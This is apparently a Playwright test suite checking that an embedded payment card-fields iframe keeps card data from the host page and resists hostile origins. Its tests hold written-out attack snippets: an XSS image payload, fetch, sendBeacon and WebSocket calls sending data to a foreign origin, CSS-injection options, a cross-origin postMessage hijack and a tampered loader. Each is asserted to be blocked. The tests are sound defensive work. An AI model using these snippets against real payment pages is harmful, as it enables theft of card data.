"""What a shop's page, or a page of anybody else, can't have of a card."""

import re
from collections.abc import Iterator, Mapping
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect

from infra.fields.release import LOADER, integrity, sources
from local.web_server import Answer, Request, WebServer, serve
from tests.browser.shopper import PAID, Shopper

NUMBER, CODE, NAME = "378282246310005", "9471", "Grace Hopper"
SECRET = re.compile(r"378282|2822463|310005|\b9471\b|Grace|Hopper")
"""Parts of them, to be found however they are written."""

HOSTILE = """<!doctype html><title>Elsewhere</title><div id="card"></div>
<script type="module" src="{loader}"></script>
<script type="module">window.fields = Tollgate({{merchant: "{merchant}"}}).card("#card")</script>"""


@pytest.fixture
def elsewhere(local: Mapping[str, Any]) -> Iterator[WebServer]:
    """A page of an origin that isn't registered, with the merchant's card fields in it."""
    page = HOSTILE.format(loader=local["card_fields_url"], merchant=local["merchant_id"])

    def respond(_: Request) -> Answer:
        return Answer(200, "text/html; charset=utf-8", page.encode())

    server = serve(0, respond)
    yield server
    server.stop()


def test_no_digit_is_in_the_shops_page_its_storage_or_its_network(shopper: Shopper) -> None:
    page, seen = shopper.page, list[str]()
    page.on("request", lambda each: seen.append(f"{each.url} {each.headers} {each.post_data}"))
    page.on("response", lambda each: seen.append(f"{each.url} {each.headers}"))
    page.on("websocket", lambda each: seen.append(each.url))
    shopper.choose()
    page.evaluate(
        """() => {
          window.told = [];
          const hear = ({data}) => told.push(JSON.stringify(data) ?? "");
          addEventListener("message", hear);
          for (const type of ["keydown", "input", "paste", "focusin"])
            addEventListener(type, (event) => told.push(type + (event.key ?? "") + (event.data ?? "")), true);
        }"""
    )
    shopper.type_card(NUMBER, "1234", CODE, NAME)
    shopper.pay()
    shopper.hears(PAID)
    expect(page.locator("#entries")).to_contain_text("payment.captured")
    ciphertexts = [each for each in seen if "encrypted_card" in each]
    assert len(ciphertexts) == 1
    stored = "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, told ?? []])"
    everything = [*seen, *shopper.said, page.content(), page.evaluate(stored)]
    assert [found for each in everything if (found := SECRET.search(each))] == []


def test_nothing_is_kept_in_the_browser(shopper: Shopper) -> None:
    """So browsers that block cookies of third parties block nothing."""
    shopper.choose()
    shopper.type_card(NUMBER, "1234", CODE, NAME)
    frame = frame_of(shopper.page)
    assert frame.evaluate("[localStorage.length, sessionStorage.length, document.cookie]") == [0, 0, ""]
    assert frame.evaluate("indexedDB.databases()") == []
    assert shopper.page.context.cookies() == []
    shopper.page.reload()
    expect(shopper.field("number")).to_have_value("")


def test_the_page_is_told_the_brand_and_whether_it_is_complete(shopper: Shopper) -> None:
    shopper.choose()
    shopper.page.evaluate(
        """async () => {
          const { merchant } = document.body.dataset;
          window.told = [];
          window.fields = Tollgate({ merchant }).card("#card", { name: false });
          fields.addEventListener("change", ({ detail }) => told.push(detail));
          await fields.ready;
        }"""
    )
    shopper.field("number").press_sequentially(NUMBER)
    shopper.field("expiry").press_sequentially("1234")
    shopper.field("code").press_sequentially(CODE)
    assert shopper.page.evaluate("told") == [
        {"brand": "amex", "complete": False, "invalid": []},
        {"brand": "amex", "complete": True, "invalid": []},
    ]
    card = shopper.page.evaluate("fields.encrypt({ save: true })")
    assert card.pop("card") == {"brand": "amex", "last4": "0005"}
    assert card["encrypted_card"] != card["encrypted_card_to_save"]


def test_a_page_of_another_origin_can_not_show_the_fields(chromium: Browser, elsewhere: WebServer) -> None:
    with chromium.new_context() as context:
        page = context.new_page()
        page.goto(elsewhere.url)
        reason = page.evaluate("fields.ready.catch(({code, message}) => [code, message])")
        assert reason[0] == "not_connected"
        assert f"{elsewhere.url} isn't registered" in reason[1]
        expect(page.frame_locator("#card iframe").locator("#number")).to_have_count(0)


def test_a_window_of_another_origin_can_not_connect_to_the_fields(
    chromium: Browser, elsewhere: WebServer, shopper: Shopper, local: Mapping[str, Any]
) -> None:
    """Neither in a shop's page that it has opened, nor in a window of their own."""
    connect = """(target) => {
      const { port1, port2 } = new MessageChannel();
      window.heard = [];
      port1.onmessage = ({ data }) => heard.push(data);
      target.postMessage({ type: "connect", options: {} }, "*", [port2]);
      port1.postMessage({ type: "encrypt", id: 1 });
    }"""
    with chromium.new_context() as context:
        page = context.new_page()
        page.goto(elsewhere.url)
        with context.expect_page() as opened:
            page.evaluate(f"void (window.opened = open('{local['shop_url']}'))")
        victim = Shopper(opened.value, local["shop_url"])
        victim.page.get_by_role("button", name="A mug").click()
        expect(victim.field("number")).to_be_visible()
        page.evaluate(f"({connect})(opened.frames[0])")
        frame = local["card_fields_url"].replace("tollgate.js", "card.html")
        with context.expect_page() as opened:
            page.evaluate(f"void (window.opened = open('{frame}?merchant={local['merchant_id']}'))")
        opened.value.wait_for_load_state()
        page.evaluate(f"({connect})(opened)")
        victim.type_card(NUMBER, "1234", CODE, NAME)
        assert page.evaluate("heard") == []
        expect(opened.value.locator("#number")).to_be_hidden()


def test_code_that_gets_into_the_frame_can_neither_run_nor_reach_anybody(
    shopper: Shopper, elsewhere: WebServer
) -> None:
    shopper.choose()
    frame = frame_of(shopper.page)
    broken = frame.evaluate(
        """async (away) => {
          const broken = [];
          addEventListener("securitypolicyviolation", (event) => broken.push(event.effectiveDirective));
          const add = (name, attributes) =>
            document.body.append(Object.assign(document.createElement(name), attributes));
          const tries = [
            () => { document.body.innerHTML = "<img src=x onerror=alert(1)>"; },
            () => add("script", { src: `${away}/x.js` }),
            () => document.body.setAttribute("onclick", "alert(1)"),
            () => add("img", { src: `${away}/?4012` }),
            () => add("iframe", { src: away }),
            () => add("link", { rel: "stylesheet", href: `${away}/x.css` }),
            () => fetch(away).catch(() => {}),
            () => navigator.sendBeacon(away, "4012"),
            () => new WebSocket(away.replace("http", "ws")),
            () => document.forms[0].submit(),
            () => { top.location = away; },
          ];
          const thrown = [];
          for (const each of tries) {
            try { await each(); } catch (error) { thrown.push(error.name); }
          }
          await new Promise((next) => setTimeout(next, 500));
          return [broken, thrown];
        }""",
        elsewhere.url,
    )
    directives, thrown = broken
    assert {"img-src", "frame-src", "style-src-elem", "connect-src"} <= set(directives)
    assert {"require-trusted-types-for"} <= set(directives)
    assert "TypeError" in thrown
    assert shopper.page.url.startswith(shopper.shop_url)


@pytest.mark.parametrize(
    "options",
    [
        {"style": {"color": "url(https://elsewhere.example/)"}},
        {"style": {"fontFamily": "var(--x)"}},
        {"style": {"content": "red"}},
        {"style": {"radius": "1px; color: red"}},
        {"script": "x"},
    ],
)
def test_a_page_chooses_colours_and_nothing_else(shopper: Shopper, options: Mapping[str, Any]) -> None:
    shopper.choose()
    reason = shopper.page.evaluate(
        """(options) => Tollgate({ merchant: document.body.dataset.merchant }).card("#card", options)
          .ready.then(() => "shown", ({ code }) => code)""",
        options,
    )
    assert reason == "invalid_options"


def test_a_loader_that_was_changed_does_not_run(shopper: Shopper) -> None:
    shopper.page.route(
        "**/tollgate.js",
        lambda route: route.fulfill(
            body="globalThis.Tollgate = () => alert(1)",
            content_type="text/javascript",
            headers={"Access-Control-Allow-Origin": "*"},
        ),
    )
    shopper.page.goto(shopper.shop_url)
    shopper.page.wait_for_load_state("networkidle")
    assert shopper.page.evaluate("typeof Tollgate") == "undefined"
    assert any(integrity(sources()[LOADER]) in each or "integrity" in each for each in shopper.said)


def frame_of(page: Page) -> Any:
    handle = page.locator("#card iframe").element_handle()
    assert handle
    return handle.content_frame()
